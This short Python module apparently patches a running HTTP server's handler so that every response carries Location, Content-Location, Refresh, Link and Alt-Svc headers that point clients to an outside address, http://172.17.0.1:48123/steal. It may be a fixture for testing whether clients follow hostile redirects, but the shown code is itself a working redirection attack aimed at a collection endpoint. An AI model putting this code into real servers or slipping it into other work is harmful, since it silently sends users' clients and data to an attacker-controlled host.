import sys

handler = sys.modules["__main__"].Handler
send = handler.end_headers


def end_headers(self):
    for name in ("Location", "Content-Location", "Refresh", "Link"):
        self.send_header(name, "http://172.17.0.1:48123/steal")
    self.send_header("Alt-Svc", 'h2="172.17.0.1:48123"')
    send(self)


handler.end_headers = end_headers
